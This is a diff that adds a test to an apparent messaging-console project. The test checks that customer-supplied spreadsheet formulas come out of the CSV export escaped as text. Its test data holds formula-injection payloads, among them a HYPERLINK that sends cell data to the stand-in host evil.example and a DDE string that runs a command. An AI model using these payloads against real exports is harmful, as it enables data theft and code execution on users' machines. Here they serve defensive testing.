@@ -1,6 +1,9 @@
 """Operators take conversations over, answer through the channel within its rules, hand back, correct the agent."""
 from __future__ import annotations
 
+import csv
+import io
+import json
 import threading
 from datetime import timedelta
 
@@ -250,3 +253,28 @@ def test_exports_carry_the_messages_and_no_credentials(client, admin_user, inbou
     secrets = inbound.connection.credentials.values()
     for body in (as_json.content.decode(), as_csv.content.decode()):
         assert not any(secret in body for secret in secrets)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
+    '  =HYPERLINK("https://evil.example/?leak="&A2,"Click")',
+    '\t=1+2', '\r=1+2', "+1+2", "-1+2", "@SUM(1+2)", "＝1+2", "\n\u3000=1+2",
+]  # fmt: skip
+
+
+def test_a_customers_formula_comes_out_of_the_csv_export_as_text(
+    member_client, business, messenger_connection, post_signed
+):
+    page_id = messenger_connection.credential("page_id")
+    for index, formula in enumerate(FORMULAS):
+        event = {"sender": {"id": "6785123409871234"}, "timestamp": 1749812345000 + index,
+                 "message": {"mid": f"m_formula_{index}", "text": formula}}  # fmt: skip
+        body = {"object": "page", "entry": [{"id": page_id, "time": 1749812345210, "messaging": [event]}]}
+        assert post_signed(messenger_connection, json.dumps(body)).status_code == 200
+    Contact.objects.update(display_name="=cmd|' /C calc'!A0")
+    exported = member_client.get(reverse("console:export", args=[business.slug, "csv"]))
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
+    assert [row["text"] for row in rows] == ["'" + formula for formula in FORMULAS]
+    assert {row["contact_name"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    # What a customer cannot make a formula of is exported as it was written.
+    assert [row["author"] for row in rows] == ["customer"] * len(FORMULAS)
